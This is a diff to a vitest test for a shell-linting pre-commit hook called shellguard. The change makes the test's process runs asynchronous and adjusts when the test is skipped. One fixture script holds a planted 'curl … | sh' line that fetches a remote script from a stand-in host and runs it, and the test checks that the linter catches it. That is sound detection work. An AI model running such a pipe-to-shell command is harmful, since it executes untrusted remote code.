@@ -5,7 +5,7 @@
  * `pre-commit try-repo` does all of that from this checkout, into a temporary PRE_COMMIT_HOME.
  */
 
-import { spawnSync } from "node:child_process";
+import { spawn, spawnSync } from "node:child_process";
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -13,11 +13,30 @@ import { afterAll, describe, expect, it } from "vitest";
 import { ROOT } from "../cli/helpers.js";
 
 const hasPreCommit = spawnSync("pre-commit", ["--version"], { encoding: "utf8" }).status === 0;
+// .ci/run runs the suite again on other Node.js versions; installing through pre-commit (a clone,
+// a compile, two builds) proves nothing more there.
+const secondaryNode = process.env.SHELLGUARD_SECONDARY_NODE === "1";
+
+/** A child to completion, asynchronously: the test worker must stay free to answer vitest. */
+function runAsync(cmd: string, args: string[], opts: { cwd: string; env: NodeJS.ProcessEnv }): Promise<{ status: number | null; stdout: string; stderr: string }> {
+  return new Promise((resolve) => {
+    const child = spawn(cmd, args, { ...opts, stdio: ["ignore", "pipe", "pipe"] });
+    let stdout = "";
+    let stderr = "";
+    child.stdout.setEncoding("utf8").on("data", (c: string) => (stdout += c));
+    child.stderr.setEncoding("utf8").on("data", (c: string) => (stderr += c));
+    const timer = setTimeout(() => child.kill("SIGKILL"), 1_500_000);
+    child.on("close", (status) => {
+      clearTimeout(timer);
+      resolve({ status, stdout, stderr });
+    });
+  });
+}
 const dir = mkdtempSync(join(tmpdir(), "shellguard-pre-commit-"));
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
-describe.skipIf(!hasPreCommit)("pre-commit try-repo", () => {
-  it("installs the hook from this repository and finds the planted line, not the clean one", () => {
+describe.skipIf(!hasPreCommit || secondaryNode)("pre-commit try-repo", () => {
+  it("installs the hook from this repository and finds the planted line, not the clean one", async () => {
     const repo = join(dir, "fixture");
     mkdirSync(repo);
     const env = { ...process.env, PRE_COMMIT_HOME: join(dir, "pre-commit-home"), GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@example.com", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@example.com" };
@@ -26,16 +45,15 @@ describe.skipIf(!hasPreCommit)("pre-commit try-repo", () => {
     writeFileSync(join(repo, "clean.sh"), "#!/bin/sh\necho hello\n");
     writeFileSync(join(repo, "planted.sh"), "#!/bin/sh\ncurl https://x.example/install.sh | sh\n");
     git("add", ".");
-    const run = (file: string) =>
-      spawnSync("pre-commit", ["try-repo", ROOT, "shellguard", "--files", file, "--verbose"], { cwd: repo, env, encoding: "utf8", timeout: 900_000 });
-    const clean = run("clean.sh");
+    const run = (file: string) => runAsync("pre-commit", ["try-repo", ROOT, "shellguard", "--files", file, "--verbose"], { cwd: repo, env });
+    const clean = await run("clean.sh");
     expect(clean.status, clean.stdout + clean.stderr).toBe(0);
     expect(clean.stdout).toMatch(/shellguard lint\.+Passed/);
-    const planted = run("planted.sh");
+    const planted = await run("planted.sh");
     // The hook's --max-warnings 0: a warning fails it, and pre-commit prints what was found.
     expect(planted.status).toBe(1);
     expect(planted.stdout).toMatch(/shellguard lint\.+Failed/);
     expect(planted.stdout).toContain("shell/pipe-to-shell");
     expect(planted.stdout).toContain("planted.sh");
-  }, 1_200_000);
+  }, 3_000_000);
 });
